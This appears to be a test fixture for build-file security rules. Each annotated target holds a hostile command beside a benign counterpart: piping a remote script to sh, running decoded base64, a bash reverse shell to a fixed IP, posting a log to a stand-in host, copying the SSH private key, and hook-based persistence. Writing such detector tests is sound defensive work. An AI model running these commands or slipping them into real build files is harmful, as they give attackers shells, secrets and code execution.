# The rules beside this file: each line after `ruleid` must be found, and nothing else in this file may be.
fetch:
	# ruleid: build.fetched_script
	curl -sS https://a.example/x.sh | sh
	curl -sS https://a.example/x.sh -o x.sh
decode:
	# ruleid: build.decoded_code
	echo aWQ= | base64 -d | sh
	echo aWQ= | base64 -d > out
shell:
	# ruleid: build.reverse_shell
	bash -i >& /dev/tcp/203.0.113.9/443 0>&1
	cat /dev/null
send:
	# ruleid: build.sends_data
	curl -s -d @log https://a.example/
	curl -s https://a.example/
tls:
	# ruleid: build.tls_unverified
	wget --no-check-certificate https://a.example/x
	wget https://a.example/x
index:
	# ruleid: build.other_index
	pip install --extra-index-url https://a.example/simple app
	pip install app
rights:
	# ruleid: build.open_rights
	chmod 777 build
	chmod 755 build
stay:
	# ruleid: build.persists
	git config core.hooksPath hooks
	git config user.name a
keys:
	# ruleid: build.reads_keys
	cp ~/.ssh/id_rsa build
	cp id.pub build
quiet:
	# ruleid: build.quiet_failure
	python -m pytest -q || true
	python -m pytest -q
